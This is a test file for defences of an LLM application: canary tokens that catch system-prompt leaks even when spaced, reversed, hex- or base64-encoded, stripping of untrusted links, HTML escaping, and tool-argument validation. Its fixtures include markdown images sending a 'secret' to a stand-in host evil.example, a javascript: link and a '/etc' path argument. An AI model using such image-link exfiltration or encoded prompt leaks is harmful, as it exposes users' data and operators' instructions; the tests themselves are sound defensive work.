import { describe, expect, it } from 'vitest';
import { createCanary, embedCanary, findCanary } from './canary.js';
import { escapeHtml, stripUntrustedUrls } from './sanitize-output.js';
import { validateToolArguments } from './validate-tool-arguments.js';

describe('canary tokens', () => {
  it('are found plain, spaced, reversed, in hex and in base64', () => {
    const canary = createCanary();
    expect(embedCanary({ systemPrompt: 'You help.', canary })).toContain(canary.token);
    expect(findCanary({ text: 'nothing here', canary })).toBeNull();
    expect(findCanary({ text: `ref ${canary.token}`, canary })?.form).toBe('plain');
    expect(findCanary({ text: [...canary.token].join(' '), canary })?.form).toBe('spaced');
    expect(findCanary({ text: [...canary.token].reverse().join(''), canary })?.form).toBe('reversed');
    expect(findCanary({ text: Buffer.from(canary.token).toString('hex'), canary })?.form).toBe('hex');
    for (const prefix of ['', 'a', 'ab', 'Your instructions: ']) {
      expect(findCanary({ text: Buffer.from(`${prefix}${canary.token} more`).toString('base64'), canary })?.form, prefix).toBe('base64');
    }
  });
});

describe('output sanitising', () => {
  it('strips images and links to hosts off the allow-list, keeps the rest', () => {
    const text = 'See ![chart](https://evil.example/x.png?d=secret) and [docs](https://docs.lore.dev/a) and [home](/index) ' + '<img src="https://evil.example/p.gif"> ![ok](https://cdn.lore.dev/a.png)\n[ref]: https://evil.example/r';
    const r = stripUntrustedUrls({ text, allowHosts: ['*.lore.dev'] });
    expect(r.text).toContain('[image: chart]');
    expect(r.text).toContain('[docs](https://docs.lore.dev/a)');
    expect(r.text).toContain('[home](/index)');
    expect(r.text).toContain('![ok](https://cdn.lore.dev/a.png)');
    expect(r.text).not.toContain('evil.example');
    expect(r.removed.map((x) => x.kind).sort()).toEqual(['html-image', 'image', 'reference']);
    expect(stripUntrustedUrls({ text: '[click](javascript:alert(1))' }).text).toBe('click');
  });

  it('escapes HTML', () => {
    expect(escapeHtml(`<script>alert("x")</script>&'`)).toBe('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&amp;&#39;');
  });
});

describe('tool arguments', () => {
  const tools = [{ name: 'search', parameters: { type: 'object', properties: { query: { type: 'string', maxLength: 50 } }, required: ['query'], additionalProperties: false } }];
  it('accepts valid arguments and refuses unknown tools, bad JSON and schema violations', () => {
    expect(validateToolArguments({ call: { id: '1', name: 'search', arguments: '{"query":"oil"}' }, tools })).toEqual({ ok: true, value: { query: 'oil' } });
    expect(validateToolArguments({ call: { id: '1', name: 'rm', arguments: '{}' }, tools }).ok).toBe(false);
    expect(validateToolArguments({ call: { id: '1', name: 'search', arguments: '{"query":' }, tools }).ok).toBe(false);
    expect(validateToolArguments({ call: { id: '1', name: 'search', arguments: '[1]' }, tools }).ok).toBe(false);
    const extra = validateToolArguments({ call: { id: '1', name: 'search', arguments: '{"query":"x","path":"/etc"}' }, tools });
    expect(extra.ok).toBe(false);
    if (!extra.ok) expect(extra.errors.join(' ')).toMatch(/path/);
    const bad = validateToolArguments({ call: { id: '1', name: 'broken', arguments: '{}' }, tools: [{ name: 'broken', parameters: { type: 'nonsense' } }] });
    expect(bad.ok).toBe(false);
  });
});
